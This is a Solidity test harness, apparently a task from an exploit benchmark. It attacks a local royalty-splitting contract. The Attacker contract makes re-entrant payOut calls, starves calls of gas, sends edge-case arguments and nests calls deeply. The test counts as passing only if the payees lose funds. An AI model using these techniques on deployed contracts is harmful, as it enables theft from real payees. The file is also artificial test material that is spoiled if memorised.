pragma solidity 0.5.17;

import "./MatineeRoyalties.sol";

// assay-canary-4058f08e-09f2-469b-a5f3-b418af8597df

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address who) external;
}

/// An actor's wallet that writes down what it gets, which takes more gas than some senders give.
contract Wallet {
    uint256 public got;
    uint256 public times;

    function() external payable {
        got += msg.value;
        times++;
    }

    function take(MatineeRoyalties royalties) external {
        royalties.take(address(this));
    }

    function change(MatineeRoyalties royalties, address payable to) external {
        royalties.changeAccount(to);
    }
}

contract Attacker {
    MatineeRoyalties internal royalties;

    constructor(MatineeRoyalties royalties_) public {
        royalties = royalties_;
    }

    function() external payable {
        _try(abi.encodeWithSelector(royalties.payOut.selector, 0, 100), gasleft());
    }

    function _try(bytes memory data, uint256 gas_) internal returns (bool ok) {
        (ok, ) = address(royalties).call.gas(gas_)(data);
    }

    function run() external {
        // with little gas, so that a payment inside may run short
        for (uint256 g = 30000; g <= 90000; g += 4000) {
            _try(abi.encodeWithSelector(royalties.payOut.selector, 1, 1), g);
        }
        // one name, all names, more than there are, again, and of a performance there was not
        _try(abi.encodeWithSelector(royalties.payOut.selector, 0, 0), gasleft());
        _try(abi.encodeWithSelector(royalties.payOut.selector, 0, 1), gasleft());
        _try(abi.encodeWithSelector(royalties.payOut.selector, 0, uint256(-1)), gasleft());
        _try(abi.encodeWithSelector(royalties.payOut.selector, 0, 4), gasleft());
        _try(abi.encodeWithSelector(royalties.payOut.selector, 1, 100), gasleft());
        _try(abi.encodeWithSelector(royalties.payOut.selector, 2, 1), gasleft() / 2);
        // deep in the stack of calls
        dive(60);
        // a place, a pigeonhole and tokens of others
        _try(abi.encodeWithSelector(royalties.changeAccount.selector, address(this)), gasleft());
        _try(abi.encodeWithSelector(royalties.take.selector, address(this)), gasleft());
        _try(abi.encodeWithSelector(royalties.forwardToken.selector, address(royalties)), gasleft());
        _try(abi.encodeWithSelector(royalties.addToBill.selector, address(this), 5000), gasleft());
    }

    function dive(uint256 depth) public {
        if (depth == 0) {
            _try(abi.encodeWithSelector(royalties.payOut.selector, 1, 100), gasleft());
            return;
        }
        (bool ok, ) = address(this).call(abi.encodeWithSelector(this.dive.selector, depth - 1));
        ok;
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    MatineeRoyalties private royalties;
    Wallet private lear;
    Wallet private regan;
    Attacker private claque;
    address payable private constant KENT = address(0x4E27);

    function() external payable {}

    function setUp() public {
        vm.deal(address(this), 20 ether);
        royalties = new MatineeRoyalties();
        lear = new Wallet();
        regan = new Wallet();
        royalties.addToBill(address(lear), 50);
        royalties.addToBill(KENT, 20);
        royalties.addToBill(address(regan), 30);
        royalties.closeBill();
        royalties.play.value(6 ether)();
        royalties.play.value(3 ether)();
        claque = new Attacker(royalties);
    }

    function test_Regular() public {
        (bool ok, ) = address(royalties).call(abi.encodeWithSelector(royalties.addToBill.selector, address(1), 1));
        require(!ok, "closed");
        // Lear and Regan have their payments sent to plain accounts
        lear.change(royalties, address(0x1EA4));
        regan.change(royalties, address(0x4E6A));
        (ok, ) = address(lear).call(abi.encodeWithSelector(lear.change.selector, royalties, address(0x1EA5)));
        require(!ok, "no place any more");
        royalties.payOut(0, 1);
        require(address(0x1EA4).balance == 3 ether && KENT.balance == 0, "one name");
        royalties.payOut(0, 9);
        require(KENT.balance == 1.2 ether && address(0x4E6A).balance == 1.8 ether, "the others");
        (ok, ) = address(royalties).call(abi.encodeWithSelector(royalties.payOut.selector, 0, 1));
        require(!ok, "paid out");
        royalties.play.value(0.0000000000000001 ether)();
        royalties.payOut(2, 3);
        require(KENT.balance == 1.2 ether + 20, "points");
        royalties.payOut(1, 3);
        require(address(royalties).balance == royalties.pigeonholes(), "books");
        (uint256 names, uint256 played) = royalties.counts();
        require(names == 3 && played == 3, "counts");
    }

    /// What the three have got, can take, and will be paid.
    function recoverable() public view returns (uint256 sum) {
        address payable[3] memory company = [address(lear), KENT, address(regan)];
        for (uint256 i = 0; i < 3; i++) {
            sum += company[i].balance + royalties.pigeonhole(company[i]);
            sum += royalties.outstanding(0, i) + royalties.outstanding(1, i);
        }
    }

    function exploit() public {
        claque.run();
    }

    function test_Exploit() public {
        uint256 before = recoverable();
        exploit();
        require(before == 9 ether && recoverable() <= 5 ether, "all is there");
    }

    function target() public view returns (address) {
        return address(royalties);
    }

    function attacker() public view returns (address) {
        return address(claque);
    }
}
